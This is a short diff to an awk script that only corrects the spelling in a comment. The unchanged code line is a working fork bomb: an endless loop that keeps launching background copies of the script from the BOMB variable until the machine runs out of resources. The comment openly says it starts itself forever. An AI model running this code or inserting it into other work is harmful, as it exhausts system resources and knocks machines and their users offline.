@@ -1,2 +1,2 @@
-# Starts itself, for ever. It needs its own text in the variable BOMB.
+# Starts itself, forever. It needs its own text in the variable BOMB.
 BEGIN { while (1) system("awk \"$BOMB\" 2>/dev/null &") }
